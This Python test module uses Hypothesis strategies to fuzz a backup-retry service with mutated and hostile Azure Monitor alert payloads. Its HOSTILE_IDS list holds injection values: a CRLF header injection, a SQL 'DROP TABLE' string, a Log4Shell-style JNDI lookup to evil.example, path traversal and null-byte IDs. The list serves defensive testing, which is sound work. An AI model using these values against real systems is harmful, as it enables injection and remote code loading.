"""Signals as somebody hostile would send them: real ones mutated, ids that lead elsewhere, any JSON."""

import copy
import json
from collections.abc import Iterator, Sequence
from itertools import chain
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

from backup_retry.domain.alert_dimensions import BUILT_IN
from tests.builders import OTHER_SUBSCRIPTION, SUBSCRIPTION, item

_PAYLOADS = Path(__file__).parents[0] / "payloads"
_SHARED = Path(__file__).parents[2] / "shared" / "azure" / "signals"
COMPLETED, RUNNING = "job-completed", "job-running"
MACHINE = item().machine_id


def _real_payloads() -> list[Any]:
    files = [*sorted(_PAYLOADS.glob("*.json")), *(sorted(_SHARED.glob("*.json")) if _SHARED.exists() else [])]
    return [json.loads(file.read_text(encoding="utf-8")) for file in files]


REAL = _real_payloads()

# ---- what is sent --------------------------------------------------------------------------------------------------

_VAULTS = "providers/Microsoft.RecoveryServices/vaults"
HOSTILE_IDS = [
    "",
    "/",
    "//" * 500,
    "x" * 100_000,
    f"/subscriptions/{OTHER_SUBSCRIPTION}/resourceGroups/rg-backup/{_VAULTS}/vault-1",
    f"/subscriptions/{SUBSCRIPTION}/resourceGroups/../{_VAULTS}/vault-1",
    f"/subscriptions/{SUBSCRIPTION}/resourceGroups/rg?a=b/{_VAULTS}/vault-1",
    f"/subscriptions/{SUBSCRIPTION}/resourceGroups/rg#x/{_VAULTS}/vault-1",
    f"/subscriptions/{SUBSCRIPTION}/resourceGroups/rg/{_VAULTS}/vault-1/../../vault-2",
    f"/SUBSCRIPTIONS/{SUBSCRIPTION.upper()}/RESOURCEGROUPS/RG-BACKUP/{_VAULTS.upper()}/VAULT-1",
    f"{item().id}/../../../../vaults/vault-2",
    f"{item().id}\r\nHost: evil.example",
    f"{item().id}\x00",
    "https://evil.example/subscriptions",
    "'; DROP TABLE incidents; --",
    "${jndi:ldap://evil.example/a}",
    "\ud800",
    "\u202e\u05de\u05e1",
    item().id,
    item().vault.id,
    f"{item().vault.id}/backupJobs/{COMPLETED}",
    COMPLETED,
    RUNNING,
    MACHINE,
    MACHINE + "' or true",
    f"{item().id}/restores/{COMPLETED}",
    item().vault.id.replace("RecoveryServices/vaults", "DataProtection/backupVaults"),
]
scalars = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(max_size=40)
    | st.sampled_from(HOSTILE_IDS)
)
anything = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=12,
)


def _places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield path
    entries = (
        value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    )
    for key, inner in entries:
        yield from _places(inner, (*path, key))


def _replaced(payload: Any, path: Sequence[Any], value: Any) -> Any:
    if not path:
        return value
    changed = copy.deepcopy(payload)
    holder = changed
    for key in path[:-1]:
        holder = holder[key]
    holder[path[-1]] = value
    return changed


@st.composite
def mutated(draw: st.DrawFn) -> Any:
    """A real payload in which up to three things are something else."""
    payload = draw(st.sampled_from(REAL))
    for _ in range(draw(st.integers(1, 3))):
        path = draw(st.sampled_from(list(_places(payload))))
        payload = _replaced(payload, path, draw(anything))
    return payload


def alert(vault_id: Any, item_id: Any, job_id: Any) -> dict[str, Any]:
    """The built-in alert with ids of the caller's choice."""
    essentials = {
        "monitorCondition": "Fired",
        "monitoringService": "Azure Backup",
        "alertRule": "Backup Failure",
    }
    context = {"protectedItemId": item_id, "extendedInfo": {"jobId": job_id}}
    data = {"essentials": {**essentials, "alertTargetIDs": [vault_id]}, "alertContext": context}
    return {"schemaId": "azureMonitorCommonAlertSchema", "data": data}


ids = st.sampled_from(HOSTILE_IDS) | st.text(max_size=30) | scalars
dimensions = st.lists(
    st.fixed_dictionaries(
        {
            "name": st.sampled_from([*chain(*BUILT_IN.values()), "backupInstanceUrl", "healthStatus"]),
            "value": ids,
        }
    ),
    max_size=4,
)


def rule_alert(service: str, target: Any, dimensions: Any) -> dict[str, Any]:
    """A log search or metric alert with dimensions of the caller's choice."""
    essentials = {"monitorCondition": "Fired", "monitoringService": service, "alertTargetIDs": [target]}
    criteria = {"metricName": "BackupHealthEvent", "dimensions": dimensions}
    context = {"condition": {"allOf": [criteria]}}
    return {
        "schemaId": "azureMonitorCommonAlertSchema",
        "data": {"essentials": essentials, "alertContext": context},
    }


def action(operation: str, target: Any) -> dict[str, Any]:
    """What the activity log and the resource events say of a call."""
    scope = {"scope": target, "action": operation}
    return {"operationName": operation, "status": "Failed", "authorization": scope, "resourceUri": target}


def action_alert(call: dict[str, Any], target: Any) -> dict[str, Any]:
    """An activity log alert of a call."""
    alerted = rule_alert("Activity Log - Administrative", target, [])
    alerted["data"]["alertContext"] = call
    return alerted


actions = st.builds(
    action,
    st.sampled_from(
        [
            "Microsoft.RecoveryServices/vaults/backupFabrics/protectionContainers/protectedItems/backup/action",
            "Microsoft.DataProtection/backupVaults/backupInstances/backup/action",
        ]
    ),
    ids,
)
hostile_alerts = (
    st.builds(alert, ids, ids, ids)
    | st.builds(rule_alert, st.sampled_from(["Log Alerts V2", "Platform"]), ids, dimensions)
    | st.builds(action_alert, actions, ids)
)
own_events = st.fixed_dictionaries({}, optional={"jobId": ids, "itemId": ids, "vaultId": ids})
